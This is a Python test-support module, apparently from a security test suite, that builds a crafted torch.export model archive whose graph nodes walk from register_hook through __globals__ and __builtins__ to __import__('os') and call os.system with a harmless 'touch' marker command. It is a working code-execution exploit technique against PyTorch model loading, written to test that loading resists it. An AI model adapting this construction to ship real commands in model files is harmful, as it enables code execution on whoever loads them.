"""Programs of torch.export of plain names and operations alone, whose generated code would call any function of Python."""

import json
from collections.abc import Sequence
from itertools import count
from pathlib import Path
from typing import Any

from support.files.hostile import program, zipped

CALL = "torch.ops.higher_order.wrap_with_set_grad_enabled"
Part = dict[str, Any]


def _value(name: str) -> Part:
    return {"as_tensor": {"name": name}}


class Maker:
    """Makes parts of a program, of names that are used once."""

    def __init__(self, kind: Part) -> None:
        self.kind = kind  # of every value
        self.fresh = (f"submod_{number}" for number in count(1))

    def node(self, target: str, args: Sequence[Part], out: str) -> Part:
        inputs = [{"name": "", "arg": arg, "kind": 1} for arg in args]
        single = {"metadata": {}, "is_hop_single_tensor_return": True}
        return {"target": target, "inputs": inputs, "outputs": [_value(out)], "name": out, **single}

    def call(self, what: Part, args: Sequence[Part], out: str) -> Part:
        return self.node(CALL, [{"as_bool": False}, what, *args], out)

    def part(self, takes: Sequence[str], nodes: Sequence[Part], gives: str, name: str | None = None) -> Part:
        names = {*takes, *(node["name"] for node in nodes)}
        empty = {f"{one}_values": {} for one in ("sym_int", "sym_bool", "sym_float", "custom_obj")}
        graph = {"inputs": [*map(_value, takes)], "outputs": [_value(gives)], "nodes": [*nodes],
                 "tensor_values": dict.fromkeys(names, self.kind), "is_single_tensor_return": True, **empty}  # fmt: skip
        return {"as_graph": {"name": name or next(self.fresh), "graph": graph}}

    def as_it_is(self, name: str | None = None, beside: int = 0) -> Part:
        """A part that gives back what it is given first."""
        return self.part(["a", *(f"b_{i}" for i in range(beside))], [], "a", name)

    def attribute(self, of: str, name: str, out: str) -> Part:
        """A value called `self` in a part makes its code take parts from there."""
        body = [
            self.call(self.as_it_is(), [self.as_it_is(beside=1)], "kept"),
            self.call(self.as_it_is(), [_value("a")], "self"),
            self.call(_value("kept"), [self.as_it_is(name), _value("self")], "found"),
        ]
        return self.call(self.part(["a"], body, "found"), [_value(of)], out)


def calls_anything(mark: Path) -> bytes:
    """A program that makes the file, whose name has neither folder nor anything but letters: os.system("touch sprung")."""
    found = program()
    key = next(name for name in found if name.endswith("models/model.json"))
    model = json.loads(found[key])
    graph = model["graph_module"]["graph"]
    maker = Maker(graph["tensor_values"]["x"])
    nodes = [
        maker.attribute("x", "register_hook", "method"),
        maker.attribute("method", "__globals__", "scope"),
        maker.node("_operator.getitem", [_value("scope"), {"as_string": "__builtins__"}], "inner"),
        maker.node("_operator.getitem", [_value("inner"), {"as_string": "__import__"}], "importer"),
        maker.call(_value("importer"), [{"as_string": "os"}], "module"),
        maker.attribute("module", "system", "run"),
        maker.call(_value("run"), [{"as_string": f"touch {mark.name}"}], "done"),
    ]
    graph["nodes"] = [*nodes, *graph["nodes"]]
    graph["tensor_values"] |= {node["name"]: maker.kind for node in nodes}
    return zipped({**found, key: json.dumps(model).encode()})
